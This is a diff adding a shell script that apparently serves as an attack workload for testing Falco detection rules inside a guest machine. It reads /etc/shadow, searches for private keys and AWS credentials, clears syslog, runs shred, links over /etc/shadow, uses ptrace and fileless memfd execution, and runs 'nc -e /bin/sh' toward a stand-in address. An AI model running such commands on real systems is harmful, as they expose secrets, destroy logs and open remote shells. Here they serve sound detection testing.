@@ -1,0 +1,84 @@
+#!/bin/sh
+# SPDX-License-Identifier: Apache-2.0
+#
+# The attack workload (busybox sh, in the guest, run once under each
+# recorder): one step per rule of falco_rules.yaml, named in
+# tests/falco/expected.txt. Programs that must carry a given proc.name are
+# links to (or copies of) falco-attack or busybox in /tmp/wl. Commands are
+# run by path: busybox sh runs a bare applet name as /proc/self/exe, whose
+# process name is "exe". Every step
+# runs whether or not the previous one worked; the recording decides.
+wl=/tmp/wl
+A=/bin/falco-attack
+/bin/rm -rf $wl /tmp/attack-data
+/bin/mkdir -p $wl /tmp/attack-data /var/log /dev/shm /root/.aws
+/bin/cp $A $wl/nginx
+/bin/ln -s $A $wl/sshd
+/bin/ln -s $A $wl/ssh
+for n in nc shred debugfs; do /bin/ln -s $A $wl/$n; done
+
+# server: an "nginx" started first, reading /etc/shadow 6 s later and
+# spawning a shell (Read sensitive file trusted after startup, Run shell
+# untrusted); the other steps run meanwhile.
+$wl/nginx &
+nginx=$!
+
+# traverse: /etc/passwd opened through ../ (Directory traversal monitored
+# file read).
+$A traverse
+
+# shadow: cat reads /etc/shadow (Read sensitive file untrusted).
+/bin/cat /etc/shadow >/dev/null
+
+# sysuser: a shell run as nobody below an "sshd" (System user interactive).
+$wl/sshd
+
+# keysearch: grep and find for private keys (Search Private Keys or
+# Passwords).
+echo "-----BEGIN RSA PRIVATE KEY-----" >/tmp/attack-data/key
+/bin/grep -r "BEGIN RSA PRIVATE" /tmp/attack-data >/dev/null
+/usr/bin/find /tmp/attack-data -name id_rsa >/dev/null
+
+# aws: grep and find for AWS credentials (Find AWS Credentials).
+echo "aws_secret_access_key = x" >/root/.aws/credentials
+/bin/grep aws_secret_access_key /root/.aws/credentials >/dev/null
+/usr/bin/find /root -path /root/.aws/credentials >/dev/null
+
+# clearlog: /var/log/syslog truncated (Clear Log Activities).
+echo old >/var/log/syslog
+: >/var/log/syslog
+
+# wipe: shred runs (Remove Bulk Data from Disk).
+$wl/shred /tmp/attack-data/key
+
+# symlink, hardlink: links to /etc/shadow (Create Symlink / Hardlink Over
+# Sensitive Files).
+/bin/ln -s /etc/shadow /tmp/attack-data/shadow-link
+/bin/ln /etc/shadow /root/shadow-hardlink
+
+# ptrace: PTRACE_TRACEME and PTRACE_ATTACH (PTRACE anti-debug attempt,
+# PTRACE attached to process).
+$A ptrace
+
+# devshm: a program run from /dev/shm (Execution from /dev/shm).
+/bin/cp /bin/busybox /dev/shm/shm-exe
+/dev/shm/shm-exe true
+
+# ssh: an "ssh" connecting to 1.2.3.4:443 (Disallowed SSH Connection Non
+# Standard Port).
+$wl/ssh
+
+# memfd: busybox run from a memfd (Fileless execution via memfd_create).
+$A memfd
+
+# Container rules' system calls (they cannot fire outside a container, but
+# the differential test compares their conditions too): netcat with -e, a
+# packet socket, stdout on a TCP socket, finit_module, debugfs, a write to
+# a file named release_agent.
+$wl/nc -e /bin/sh 10.0.0.1 4444
+$A packet dup finit_module
+$wl/debugfs
+echo 1 >/tmp/attack-data/release_agent
+
+wait $nginx
+/bin/rm -rf $wl /tmp/attack-data /dev/shm/shm-exe /root/shadow-hardlink /root/.aws
